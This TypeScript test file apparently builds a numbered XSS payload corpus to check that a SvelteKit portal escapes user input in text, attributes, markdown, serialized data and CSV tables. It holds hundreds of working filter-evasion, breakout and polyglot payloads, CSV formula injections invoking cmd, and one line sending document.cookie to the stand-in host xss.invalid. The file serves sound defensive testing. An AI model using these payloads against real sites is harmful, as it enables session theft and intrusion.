/**
 * The XSS corpus: payloads in the style of the OWASP XSS filter-evasion cheat sheet and
 * PortSwigger's XSS cheat sheet, written for this portal's contexts (Svelte-escaped text and
 * attributes, `<title>`, `<textarea>` values, SvelteKit's serialized page data in a `<script>`,
 * markdown-it replies and disclosure bodies, CSV cells turned into tables and charts, file names).
 *
 * Every payload that would run calls a detector: `{JS}` becomes `alert(N)`, `confirm(N)`,
 * `prompt(N)` or `window.__xss(N)` (N is the payload's number, so a report names the payload), and
 * most also try to load `http://xss.invalid/N`, which the Content Security Policy would refuse
 * (and report) if the markup ever reached the DOM.
 */

/** Handwritten templates. `{JS}` is the detector call, `{N}` the payload's number. */
const BASE: string[] = [
	// plain script elements
	'<script>{JS}</script>',
	'<SCRIPT>{JS}</SCRIPT>',
	'<ScRiPt>{JS}</sCrIpT>',
	'<script src="http://xss.invalid/{N}.js"></script>',
	'<script src=//xss.invalid/{N}.js></script>',
	'<script/xss src="http://xss.invalid/{N}.js"></script>',
	'<script>/*</script>*/{JS}</script>',
	'<<script>{JS};//<</script>',
	'<script\x20type="text/javascript">{JS};</script>',
	'<script type=module>{JS}</script>',
	'<script>eval(atob("YWxlcnQoMSk="))</script>',
	'<script>setTimeout("{JS}")</script>',
	'<script>[].constructor.constructor("{JS}")()</script>',
	'<scr<script>ipt>{JS}</scr</script>ipt>',
	'<script\n>{JS}</script\n>',
	// event handlers
	'<img src=x onerror={JS}>',
	'<img src="x" onerror="{JS}">',
	'<IMG SRC=x OnErRoR={JS}>',
	'<img src=x onerror="javascript:{JS}">',
	'<img/src=x/onerror={JS}>',
	'<img src=x:alert(alt) onerror=eval(src) alt={N}>',
	'<img src="http://xss.invalid/{N}.png">',
	'<img srcset="http://xss.invalid/{N}.png 1x">',
	'<img src=`x`onerror={JS}>',
	'<img """><script>{JS}</script>">',
	'<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;{N}&#41;>',
	'<img src=x onerror=\\u0061lert({N})>',
	'<svg onload={JS}>',
	'<svg/onload={JS}>',
	'<svg><script>{JS}</script></svg>',
	'<svg><animate onbegin={JS} attributeName=x dur=1s>',
	'<svg><set onbegin={JS} attributename=x to=1>',
	'<svg><a xlink:href="javascript:{JS}"><text x="20" y="20">xss{N}</text></a></svg>',
	'<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror={JS} /></svg>#x"/></svg>',
	'<svg><foreignObject><iframe src="javascript:{JS}"></iframe></foreignObject></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror={JS}>',
	'<body onload={JS}>',
	'<body onpageshow={JS}>',
	'<details open ontoggle={JS}>',
	'<details/open/ontoggle="{JS}">',
	'<video><source onerror="{JS}">',
	'<video src=x onerror={JS}></video>',
	'<audio src=x onerror={JS}>',
	'<iframe src="javascript:{JS}"></iframe>',
	'<iframe srcdoc="<script>{JS}</script>"></iframe>',
	'<iframe src="data:text/html,<script>{JS}</script>"></iframe>',
	'<iframe src="http://xss.invalid/{N}"></iframe>',
	'<object data="javascript:{JS}"></object>',
	'<object data="http://xss.invalid/{N}.swf"></object>',
	'<embed src="javascript:{JS}">',
	'<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
	'<input autofocus onfocus={JS}>',
	'<input onfocus={JS} autofocus>',
	'<select autofocus onfocus={JS}></select>',
	'<textarea autofocus onfocus={JS}>',
	'<keygen autofocus onfocus={JS}>',
	'<marquee onstart={JS}>xss{N}</marquee>',
	'<div onmouseover="{JS}" style="position:fixed;inset:0">xss{N}</div>',
	'<a onmouseover="{JS}">xss{N}</a>',
	'<button onclick="{JS}">xss{N}</button>',
	'<form><button formaction="javascript:{JS}">xss{N}</button></form>',
	'<form action="javascript:{JS}"><input type=submit></form>',
	'<isindex action="javascript:{JS}" type=submit>',
	'<x contenteditable onblur={JS}>xss{N}</x>',
	'<xss id=x tabindex=1 onfocus={JS}></xss>',
	'<style onload={JS}></style>',
	'<link rel=stylesheet href="http://xss.invalid/{N}.css">',
	'<link rel=import href="http://xss.invalid/{N}.html">',
	'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
	'<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
	'<base href="http://xss.invalid/{N}/">',
	'<table background="javascript:{JS}">',
	'<div style="background-image:url(javascript:{JS})">',
	'<div style="width:expression({JS})">',
	'<div style="behavior:url(http://xss.invalid/{N}.htc)">',
	'<style>@import "http://xss.invalid/{N}.css";</style>',
	'<style>body{background:url("javascript:{JS}")}</style>',
	'<noscript><p title="</noscript><img src=x onerror={JS}>">',
	'<noembed><img title="</noembed><img src=x onerror={JS}>"></noembed>',
	'<template><img src=x onerror={JS}></template>',
	'<frameset onload={JS}>',
	'<portal src="http://xss.invalid/{N}"></portal>',
	// links and URL schemes
	'<a href="javascript:{JS}">xss{N}</a>',
	'<a href="JaVaScRiPt:{JS}">xss{N}</a>',
	'<a href=" javascript:{JS}">xss{N}</a>',
	'<a href="java\tscript:{JS}">xss{N}</a>',
	'<a href="java&#x09;script:{JS}">xss{N}</a>',
	'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{JS}">xss{N}</a>',
	'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{JS}">xss{N}</a>',
	'<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{JS}">xss{N}</a>',
	'<a href="vbscript:msgbox({N})">xss{N}</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss{N}</a>',
	'<a href="data:text/html,<script>{JS}</script>">xss{N}</a>',
	'<a href="livescript:{JS}">xss{N}</a>',
	'<a href=javascript&colon;{JS}>xss{N}</a>',
	'javascript:{JS}',
	'javascript://%0a{JS}',
	'JaVaScRiPt:{JS}//',
	'data:text/html,<script>{JS}</script>',
	'vbscript:msgbox({N})',
	// attribute and context breakouts
	'"><script>{JS}</script>',
	"'><script>{JS}</script>",
	'"><svg onload={JS}>',
	"'><svg onload={JS}>",
	'" onmouseover="{JS}" x="',
	"' onmouseover='{JS}' x='",
	'" autofocus onfocus="{JS}" x="',
	'"><img src=x onerror={JS}>',
	'`><img src=x onerror={JS}>',
	'"/><img src=x onerror={JS}>',
	"'-{JS}-'",
	'";{JS};//',
	"';{JS};//",
	'\\";{JS};//',
	'</textarea><script>{JS}</script>',
	'</textarea><img src=x onerror={JS}>',
	'</title><script>{JS}</script>',
	'</title><img src=x onerror={JS}>',
	'</style><script>{JS}</script>',
	'</script><script>{JS}</script>',
	'</script><img src=x onerror={JS}>',
	'</noscript><img src=x onerror={JS}>',
	'</option></select><img src=x onerror={JS}>',
	'</a><img src=x onerror={JS}>',
	'--><script>{JS}</script>',
	'<!--<img src="--><img src=x onerror={JS}//">',
	']]><script>{JS}</script>',
	'<![CDATA[<script>{JS}</script>]]>',
	'<?xml version="1.0"?><script>{JS}</script>',
	// SvelteKit's serialized data (a JSON-ish literal inside an inline <script>)
	'</script><script>{JS}</script><script>',
	'"}]});{JS};//',
	'\u2028{JS}\u2029',
	'</SCRIPT ><script>{JS}</script>',
	'</script\t><svg onload={JS}>',
	'{"__proto__":{"x":"<img src=x onerror={JS}>"}}',
	'${{JS}}',
	'{{constructor.constructor("{JS}")()}}',
	'{{{JS}}}',
	'{@html "<img src=x onerror={JS}>"}',
	'<%= {JS} %>',
	'#{{JS}}',
	'[[{JS}]]',
	'{{7*7}}xss{N}',
	// markdown
	'[xss{N}](javascript:{JS})',
	'[xss{N}](JAVASCRIPT:{JS})',
	'[xss{N}](javascript&#58;{JS})',
	'[xss{N}](  javascript:{JS}  )',
	'[xss{N}](<javascript:{JS}>)',
	'[xss{N}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[xss{N}](vbscript:msgbox({N}))',
	'[xss{N}](//xss.invalid/{N})',
	'[xss{N}](/\\xss.invalid/{N})',
	'[xss{N}](https://example.org/" onmouseover="{JS})',
	'[xss{N}](https://example.org/"onclick="{JS}")',
	'[xss{N}](https://example.org "title\\" onmouseover=\\"{JS}")',
	'[xss{N}][ref{N}]\n\n[ref{N}]: javascript:{JS}',
	'![xss{N}](x" onerror="{JS})',
	'![xss{N}](http://xss.invalid/{N}.png)',
	'![xss{N}](javascript:{JS})',
	'<javascript:{JS}>',
	'<http://xss.invalid/{N}"onmouseover="{JS}>',
	'<mailto:x@example.org?body=<script>{JS}</script>>',
	'www.example.org/"onmouseover="{JS}"',
	'https://example.org/<script>{JS}</script>',
	'`<script>{JS}</script>`',
	'```html\n<script>{JS}</script>\n```',
	'    <script>{JS}</script>',
	'> <img src=x onerror={JS}>',
	'# <img src=x onerror={JS}>',
	'* <svg onload={JS}>',
	'**<img src=x onerror={JS}>**',
	'~~<details open ontoggle={JS}>~~',
	'| a | b |\n|---|---|\n| <img src=x onerror={JS}> | c |',
	'<div>\n\n[xss{N}](javascript:{JS})\n\n</div>',
	'[<img src=x onerror={JS}>](https://example.org/)',
	'[xss{N}](https://example.org/)<!-- --><script>{JS}</script>',
	'\\<script>{JS}\\</script>',
	'&lt;script&gt;{JS}&lt;/script&gt;',
	// encodings and unicode
	'%3Cscript%3E{JS}%3C%2Fscript%3E',
	'%253Cscript%253E{JS}%253C%252Fscript%253E',
	'&#60;script&#62;{JS}&#60;/script&#62;',
	'&#x3C;img src=x onerror={JS}&#x3E;',
	'\\x3cscript\\x3e{JS}\\x3c/script\\x3e',
	'\\u003cscript\\u003e{JS}\\u003c/script\\u003e',
	'\uFF1Cscript\uFF1E{JS}\uFF1C/script\uFF1E',
	'\u00ABscript\u00BB{JS}\u00AB/script\u00BB',
	'<scr\u0000ipt>{JS}</scr\u0000ipt>',
	'<img src=x\u000bonerror={JS}>',
	'<img src=x\u000conerror={JS}>',
	'<img\u2000src=x onerror={JS}>',
	'<\u200Bscript>{JS}</script>',
	'\u202E>tpircs/<{JS}>tpircs<',
	'<img src="x" onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;{N}&#x29;">',
	'+ADw-script+AD4-{JS}+ADw-/script+AD4-',
	'\uFEFF<script>{JS}</script>',
	'Tiếng Việt <script>{JS}</script> có dấu',
	// polyglots
	'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={JS} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={JS}//>\\x3e',
	'\'">><marquee><img src=x onerror={JS}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt({N})><script>prompt({N})</script>@gmail.com<isindex formaction=javascript:{JS} type=submit>\'-->"></script><script>{JS}</script>"><img/id="confirm&lpar;{N}&rpar;"/alt="/"src="/"onerror=eval(id&#x29;>\'"><img src="http://xss.invalid/{N}.png">',
	'" onclick={JS}//<button \' onclick={JS}//> */ {JS}//',
	'-->\'"/></sCript><deTailS open x=">" ontoggle=({JS})>',
	'</script></title></textarea></style><svg/onload={JS}>',
	'"\'--></style></script><svg onload={JS}>',
	'<a href="javascript:{JS}"><img src=x onerror={JS}><svg onload={JS}></a>',
	// CSV-specific (formula and HTML in a cell)
	'=HYPERLINK("javascript:{JS}","xss{N}")',
	"+cmd|'/C calc'!A0<script>{JS}</script>",
	"@SUM(1+1)*cmd|'/C calc'!A0<img src=x onerror={JS}>",
	"-2+3+cmd|'/C calc'!A0",
	// plain text that merely looks dangerous
	'alert({N})',
	'window.__xss({N})',
	'"xss{N}"',
	"'xss{N}'",
	'< script >{JS}< / script >',
	'<script>\u0061lert({N})</script>',
	'<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>',
	"<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
	'<img src=x onerror=top["al"+"ert"]({N})>',
	'<img src=x onerror=window["__xss"]({N})>',
	'<img src=x onerror=(alert)({N})>',
	'<img src=x onerror=alert`{N}`>',
	'<img src=x onerror=throw onerror=alert,{N}>',
	'<img src=x onerror=location="javascript:{JS}">',
	'<img src=x onerror=fetch("http://xss.invalid/"+document.cookie)>',
	'<img src=x onerror=import("http://xss.invalid/{N}.js")>',
	'<svg><script href="http://xss.invalid/{N}.js"/></svg>',
	'<svg><script xlink:href="data:,{JS}"></script></svg>',
	'<svg><style><img src=x onerror={JS}></style></svg>',
	'<svg><title><script>{JS}</script></title></svg>',
	'<math><maction actiontype="statusline" xlink:href="javascript:{JS}">xss{N}</maction></math>',
	'<a href="#" onclick="{JS};return false">xss{N}</a>',
	'<img src=x onerror="this.onerror=null;{JS}">',
	'<img src=1 onerror={JS} id=xss{N}>',
	'<plaintext><script>{JS}</script>',
	'<xmp><script>{JS}</script></xmp>',
	'<listing><img src=x onerror={JS}></listing>',
	'<dialog open onclose={JS}>xss{N}</dialog>',
	'<object type="text/x-scriptlet" data="http://xss.invalid/{N}.sct"></object>',
	'<applet code="javascript:{JS}"></applet>',
	'<bgsound src="javascript:{JS}">',
	'<layer src="http://xss.invalid/{N}.html"></layer>',
	'<html xmlns:xss><?import namespace="xss" implementation="http://xss.invalid/{N}.htc"><xss:xss>xss{N}</xss:xss>',
	'<xml><i><b>&lt;img src=x onerror={JS}&gt;</b></i></xml>',
	'<img src=x onerror="&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040{N}&#0000041">',
	'<div id="{N}"><a href="javascript:void(0)" onclick="{JS}">xss{N}</a></div>',
	'<svg onload=setInterval(function(){{JS}},100)>',
	'<svg onresize={JS}>',
	'<body onhashchange={JS}><a href=#x>xss{N}</a>',
	'<img src=x onerror=window.opener?.alert({N})>',
	'<iframe onload={JS}></iframe>',
	'<iframe src=x onload={JS}></iframe>',
	'<object data=x onerror={JS}></object>',
	'<video poster=javascript:{JS}//></video>',
	'<video><track default src=x onerror={JS}></video>',
	'<picture><source srcset=x onerror={JS}><img></picture>',
	'<image src=x onerror={JS}>',
	'<img src=x onerror={JS}//',
	'<img src=x onerror={JS}\n',
	'<a/href="javascript&colon;{JS}">xss{N}</a>',
	'<a href="javas&Tab;cript:{JS}">xss{N}</a>',
	'<a href="javas&NewLine;cript:{JS}">xss{N}</a>',
	'<svg><a><animate attributeName=href values=javascript:{JS} /><text x=20 y=20>xss{N}</text></a></svg>'
];

/** Calls of the detector, rotated so that every kind is exercised. */
const CALLS = [
	(n: number) => `alert(${n})`,
	(n: number) => `window.__xss(${n})`,
	(n: number) => `confirm(${n})`,
	(n: number) => `prompt(${n})`
];

function fill(template: string, n: number): string {
	const call = CALLS[n % CALLS.length](n);
	return template.replaceAll('{JS}', call).replaceAll('{N}', String(n));
}

/** Wrappers that move a payload into the other contexts of a page (generated variants). */
const CONTEXTS: ((p: string) => string)[] = [
	(p) => `"> ${p}`,
	(p) => `</textarea></title></script>${p}`,
	(p) => `[${p}](https://example.org/)`,
	(p) => `Ý kiến của tôi: ${p}`
];

function build(): string[] {
	const out = new Set<string>();
	BASE.forEach((t) => out.add(fill(t, out.size + 1)));
	// Every script, event-handler and breakout payload once more in another context.
	const wrapped = BASE.filter((t) => /^<(?:script|img|svg|details)[\s/>]/i.test(t));
	wrapped.forEach((t, i) => {
		const context = CONTEXTS[i % CONTEXTS.length];
		out.add(context(fill(t, out.size + 1)));
	});
	return [...out];
}

/** The corpus, each payload distinct and numbered from 1 in order. */
export const PAYLOADS: readonly string[] = build();

/** A payload's number as used by its detector calls (1-based). */
export const payloadNumber = (p: string) => PAYLOADS.indexOf(p) + 1;

/**
 * Splits the corpus into texts of at most `max` characters, payloads joined by `separator`.
 * A payload longer than `max` is cut to fit (its detector call may then be lost, but the cut
 * text still reaches the field); `minLength` pads short texts so that they pass validation.
 */
export function chunks(
	max: number,
	{
		separator = '\n',
		prefix = '',
		minLength = 0,
		payloads = PAYLOADS
	}: { separator?: string; prefix?: string; minLength?: number; payloads?: readonly string[] } = {}
): string[] {
	const out: string[] = [];
	let current = prefix;
	const room = max - prefix.length;
	// A form posts every line break as CRLF, and the server counts both characters.
	const posted = (s: string) => s.replace(/\r?\n/g, '\r\n').length;
	for (const raw of payloads) {
		const p = posted(raw) > room ? raw.slice(0, room / 2) : raw;
		const next = current === prefix ? `${prefix}${p}` : `${current}${separator}${p}`;
		if (posted(next) > max) {
			out.push(current);
			current = `${prefix}${p}`;
		} else current = next;
	}
	if (current !== prefix) out.push(current);
	return out.map((c) => (c.trim().length < minLength ? c.padEnd(minLength, '.') : c));
}

/** A piece of `text` that any page showing it as text must contain: its longest plain word. */
export function visibleBit(text: string): string {
	const words = text.match(/[!-~]{4,}/g) ?? [];
	return words.reduce((a, b) => (b.length > a.length ? b : a), '').slice(0, 60);
}
